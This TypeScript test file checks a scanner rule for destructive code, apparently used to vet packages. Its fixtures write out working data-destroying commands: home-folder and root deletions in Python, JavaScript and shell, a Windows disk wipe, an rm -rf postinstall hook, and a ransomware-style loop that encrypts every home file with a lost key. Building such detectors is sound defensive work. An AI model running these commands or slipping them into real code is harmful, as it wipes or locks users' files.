import { testRule } from '../../../testing/rule-checks.ts';
import { destructiveAction } from './destructive-action.ts';

const run = (command: string) => ({ 'a.js': `require('child_process').execSync(${JSON.stringify(command)});\n` });
const hook = (command: string) => ({ 'package.json': JSON.stringify({ scripts: { postinstall: command } }) });

testRule(destructiveAction, {
  caught: [
    {
      of: 'a home folder, in Python',
      files: { 'a.py': 'import shutil, os\nshutil.rmtree(os.path.expanduser("~"), ignore_errors=True)\n' },
      severity: 'critical',
    },
    {
      of: 'every file, made unreadable in its place',
      files: {
        'a.py':
          'import os\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\nfor r, d, names in os.walk(os.path.expanduser("~")):\n    for n in names:\n        p = os.path.join(r, n)\n        data = f.encrypt(open(p, "rb").read())\n        open(p, "wb").write(data)\n',
      },
      severity: 'critical',
    },
    {
      of: 'a home folder',
      files: { 'a.js': "const { rmSync } = require('fs');\nrmSync(require('os').homedir(), { recursive: true });\n" },
      severity: 'critical',
    },
    { of: 'a disk', files: { 'a.js': "require('fs').rmSync('/', { recursive: true, force: true });\n" } },
    { of: 'rm -rf ~', files: run('rm -rf ~/') },
    { of: 'rm -rf of everything here', files: run('rm -rf *') },
    { of: 'rm with its flags apart', files: run('rm -r -f --no-preserve-root /') },
    { of: 'a disk of Windows', files: run('del /s /q C:\\*') },
    { of: 'an install script', files: hook('rm -rf ~/* || true'), permissions: null },
    { of: 'a script of the package', files: { 'a.sh': '#!/bin/bash\nrm -rf ~/* 2>/dev/null\n' }, severity: 'critical' },
  ],
  silent: [
    {
      of: 'one file that is named',
      files: {
        'a.py':
          'from cryptography.fernet import Fernet\nimport sys\np = sys.argv[1]\nopen(p + ".enc", "wb").write(Fernet(Fernet.generate_key()).encrypt(open(p, "rb").read()))\n',
      },
    },
    {
      of: 'a script that cleans up after itself',
      files: {
        'a.sh': '#!/bin/bash\nT=$(mktemp -d)\ntrap \'rm -rf "$T"\' EXIT\nrm -rf ./dist ~/.cache/t\n# never rm -rf /\n',
      },
    },
    { of: 'a text that warns of it', files: { 'SKILL.md': 'Never run this:\n\n```bash\nrm -rf ~/*\n```\n' } },
    { of: 'a folder of the package', files: { 'a.js': "require('fs').rmSync('dist', { recursive: true });\n" } },
    {
      of: 'a folder below the home folder',
      files: { 'a.js': "require('fs').rmSync(require('os').homedir() + '/.cache/tool', { recursive: true });\n" },
    },
    { of: 'rm of a folder', files: run('rm -rf /tmp/build-1 dist/*') },
    { of: 'an install script that clears its own build', files: hook('rm -rf build'), permissions: null },
  ],
});
